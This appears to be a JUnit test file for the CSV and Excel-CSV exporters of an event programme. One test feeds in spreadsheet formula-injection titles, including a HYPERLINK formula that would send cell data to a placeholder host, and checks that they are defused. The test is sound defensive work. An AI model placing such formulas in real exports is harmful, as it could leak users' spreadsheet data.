package org.digitalweek.event.export.csv;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import org.digitalweek.event.domain.model.LocalizedText;
import org.digitalweek.event.domain.model.PublicEdition;
import org.digitalweek.event.domain.model.Session;
import org.digitalweek.event.domain.model.SessionId;
import org.digitalweek.event.domain.port.out.Exporter;
import org.digitalweek.event.domain.boot.FormatCatalogue;
import org.digitalweek.event.export.support.EditionVariants;
import org.digitalweek.event.export.support.Editions;
import org.digitalweek.event.export.support.GoldenFiles;

class CsvExporterTest {

    private static final Exporter CSV = new CsvExporter();
    private static final Exporter EXCEL = new ExcelCsvExporter();

    @TempDir
    Path folder;

    @Test
    void the_sample_matches_its_golden_files() throws IOException {
        GoldenFiles.assertMatches("snm-2026.fr.csv", Editions.export(CSV, Editions.sample(), "fr"));
        GoldenFiles.assertMatches("snm-2026.en.csv", Editions.export(CSV, Editions.sample(), "en"));
        GoldenFiles.assertMatches("snm-2026.fr.excel.csv", Editions.export(EXCEL, Editions.sample(), "fr"));
    }

    @Test
    void the_service_loader_offers_both_dialects() {
        FormatCatalogue catalogue = FormatCatalogue.discover(getClass().getClassLoader());

        assertThat(catalogue.exporter("csv")).get().isInstanceOf(CsvExporter.class)
                .extracting(Exporter::mediaType).isEqualTo("text/csv");
        assertThat(catalogue.exporter("csv-excel")).get().isInstanceOf(ExcelCsvExporter.class)
                .extracting(Exporter::mediaType).isEqualTo("text/csv");
    }

    @Test
    void the_rfc_dialect_has_crlf_commas_and_no_bom_and_the_excel_one_semicolons_and_a_bom() {
        String csv = new String(Editions.export(CSV, Editions.sample(), "en"), StandardCharsets.UTF_8);
        String excel = new String(Editions.export(EXCEL, Editions.sample(), "en"), StandardCharsets.UTF_8);

        assertThat(csv).startsWith("id,day,start,end,time zone,room,venue,type,track,title,status,languages,"
                + "speakers,expected attendance,illustrative note,url\r\n").endsWith("\r\n");
        assertThat(csv.replace("\r\n", "")).doesNotContain("\n");
        assertThat(excel).startsWith("\uFEFFid;day;start;end;time zone;room;").endsWith("\r\n");
    }

    @Test
    void the_last_column_is_a_sessions_page_read_back_by_python_and_empty_without_one() throws IOException {
        PublicEdition linked = EditionVariants.linked();
        for (CsvDialect dialect : List.of(CsvDialect.RFC_4180, CsvDialect.EXCEL)) {
            List<List<String>> rows = PythonCsv.read(Editions.export(dialect.bom() ? EXCEL : CSV, linked, "fr"),
                    dialect, folder);

            assertThat(rows.get(0).get(15)).isEqualTo("url");
            assertThat(rows.subList(1, rows.size())).extracting(r -> r.get(0) + " " + r.get(15)).containsExactlyElementsOf(
                    linked.programme().stream().map(s -> s.id().value() + " " + (s.id().value()
                            .equals("ceremonie-de-lancement") ? EditionVariants.OPENING_PAGE : "")).toList());
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"fr", "en"})
    void python_reads_the_sample_back_in_both_dialects(String language) throws IOException {
        PublicEdition sample = Editions.sample();
        for (CsvDialect dialect : List.of(CsvDialect.RFC_4180, CsvDialect.EXCEL)) {
            Exporter exporter = dialect.bom() ? EXCEL : CSV;
            List<List<String>> rows = PythonCsv.read(Editions.export(exporter, sample, language), dialect, folder);

            assertThat(rows).hasSize(sample.sessions().size() + 1).allSatisfy(row -> assertThat(row).hasSize(16));
            assertThat(rows.get(0).get(9)).isEqualTo(language.equals("fr") ? "titre" : "title");
            List<Session> programme = sample.programme();
            for (int i = 0; i < programme.size(); i++) {
                assertThat(rows.get(i + 1).get(0)).isEqualTo(programme.get(i).id().value());
                assertThat(rows.get(i + 1).get(9)).isEqualTo(programme.get(i).title().resolve(language));
            }
            List<String> opening = rows.get(1);
            assertThat(opening.subList(0, 7)).containsExactly("ceremonie-de-lancement", "2026-01-29", "09:00",
                    "11:00", "Africa/Bamako", language.equals("fr") ? "Salle des banquets" : "Banquet hall",
                    language.equals("fr") ? "Centre International de Conférences de Bamako"
                            : "Bamako International Conference Centre");
            assertThat(opening.get(12)).isEqualTo(language.equals("fr")
                    ? "Mme Aminata Zerbo Sabané (intervenant) ; M. Mohamed Sidi Raliou (intervenant) ; "
                            + "M. Alhamdou Ag Ilyène (préside)"
                    : "Mme Aminata Zerbo Sabané (speaker) ; M. Mohamed Sidi Raliou (speaker) ; "
                            + "M. Alhamdou Ag Ilyène (chair)");
            assertThat(opening.get(14)).startsWith(language.equals("fr") ? "Heures illustratives" : "Illustrative hours");
        }
    }

    @Test
    void python_reads_back_two_thousand_sessions_in_both_dialects() throws IOException {
        PublicEdition generated = Editions.generated();
        List<Session> programme = generated.programme();
        for (CsvDialect dialect : List.of(CsvDialect.RFC_4180, CsvDialect.EXCEL)) {
            Exporter exporter = dialect.bom() ? EXCEL : CSV;
            List<List<String>> rows = PythonCsv.read(Editions.export(exporter, generated, "fr"), dialect, folder);

            assertThat(rows).hasSize(2_001).allSatisfy(row -> assertThat(row).hasSize(16));
            for (int i = 0; i < programme.size(); i++) {
                Session session = programme.get(i);
                List<String> row = rows.get(i + 1);
                assertThat(row.get(0)).isEqualTo(session.id().value());
                assertThat(row.get(1)).isEqualTo(session.slot().start().toLocalDate().toString());
                assertThat(row.get(9)).isEqualTo(CsvCells.defused(session.title().resolve("fr")));
                assertThat(row.get(11)).isEqualTo(String.join(" ; ", session.languages()));
            }
        }
    }

    @Test
    void hostile_cells_are_defused_and_still_parse_to_fifteen_fields() throws IOException {
        Map<String, String> hostile = new LinkedHashMap<>();
        hostile.put("h1", "=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"Cliquez\")");
        hostile.put("h2", "+1");
        hostile.put("h3", "-2");
        hostile.put("h4", "@SUM(A1:A9)");
        hostile.put("h5", "\t=1");
        hostile.put("h6", "\r=1");
        hostile.put("h7", "Débat « ouvert » : \"IA\", culture; et\r\nsouveraineté\n; fin");
        PublicEdition edition = Editions.sample();
        Session template = edition.programme().get(0);
        for (Map.Entry<String, String> entry : hostile.entrySet()) {
            edition = edition.withSession(titled(template, entry.getKey(), entry.getValue()));
        }

        for (CsvDialect dialect : List.of(CsvDialect.RFC_4180, CsvDialect.EXCEL)) {
            Exporter exporter = dialect.bom() ? EXCEL : CSV;
            List<List<String>> rows = PythonCsv.read(Editions.export(exporter, edition, "fr"), dialect, folder);

            assertThat(rows).hasSize(edition.sessions().size() + 1).allSatisfy(row -> assertThat(row).hasSize(16));
            for (Map.Entry<String, String> entry : hostile.entrySet()) {
                List<String> row = rows.stream().filter(r -> r.get(0).equals(entry.getKey())).findFirst().orElseThrow();
                String expected = entry.getKey().equals("h7") ? entry.getValue() : "'" + entry.getValue();
                assertThat(row.get(9)).as(entry.getKey()).isEqualTo(expected);
            }
        }
    }

    @Test
    void only_cells_that_start_like_a_formula_are_defused() {
        assertThat(CsvCells.defused("=1+1")).isEqualTo("'=1+1");
        assertThat(CsvCells.defused("-")).isEqualTo("'-");
        assertThat(CsvCells.defused("")).isEmpty();
        assertThat(CsvCells.defused("1+1=2")).isEqualTo("1+1=2");
        assertThat(CsvCells.defused("'déjà")).isEqualTo("'déjà");
        assertThat(CsvCells.defused(" =1")).isEqualTo(" =1");
    }

    private static Session titled(Session template, String id, String title) {
        return new Session(new SessionId(id), template.type(), LocalizedText.fr(title), template.summary(),
                template.track(), template.slot(), template.room(), template.participants(), template.languages(),
                template.status(), template.expectedAttendance(), List.of(), template.provenance(),
                template.parallelAllowed(), template.origin());
    }
}
